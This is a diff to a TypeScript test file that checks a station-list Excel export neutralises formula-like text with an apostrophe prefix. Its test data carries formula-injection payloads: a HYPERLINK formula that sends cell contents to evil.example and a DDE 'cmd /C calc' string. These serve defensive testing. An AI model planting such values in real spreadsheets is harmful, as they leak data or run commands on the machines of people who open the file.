@@ -1,5 +1,5 @@
 import { eq } from 'drizzle-orm';
-import ExcelJS from 'exceljs';
+import ExcelJS from '../../platform/excel/exceljs.mjs';
 import { describe, expect, it } from 'vitest';
 import { useTestApp } from '../../../test/app.ts';
 import { createStation } from '../../../test/factories.ts';
@@ -58,6 +58,30 @@ describe('stations: export', () => {
     expect(ws.getCell('D2').value).toBe('广东省/肇庆市/端州区/端州区城东街道');
     const [row] = await audits('export');
     expect(row).toMatchObject({ entity: 'station', actorName: a.username, detail: { count: 25, filters: { kind: 'point' } } });
+  });
+
+  it('writes text that starts like a formula (= + - @) neutralised with an apostrophe, never as a formula, and imports it back unchanged', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?q="&A2,"点此查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)'];
+    for (const name of names) await createStation(t.database.db, { name, address: `=1+${name.length}` });
+    await createStation(t.database.db, { name: '城东社工站' });
+    const a = await admin();
+    const res = await a.send('GET', '/stations/export');
+    expect(res.statusCode).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as never);
+    const ws = wb.getWorksheet('站点')!;
+    const cells: { name: unknown; type: number }[] = [];
+    ws.eachRow((row, n) => {
+      if (n > 1) cells.push({ name: row.getCell(1).value, type: row.getCell(1).type });
+    });
+    expect(cells.map((c) => c.name).sort()).toEqual([...names.map((n) => `'${n}`), '城东社工站'].sort());
+    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
+    const address = (ws.getRow(1).values as unknown[]).indexOf('地址');
+    expect(String(ws.getRow(2).getCell(address).value)).toMatch(/^'=1\+/);
+    // No cell of the file is a formula.
+    expect(res.rawPayload.includes(Buffer.from('<f>'))).toBe(false);
+    const again = await a.upload('/stations/import?dryRun=true', res.rawPayload);
+    expect(again.json()).toMatchObject({ errors: [], created: 0, updated: 0, unchanged: 5 });
   });
 
   it('is refused to station staff', async () => {
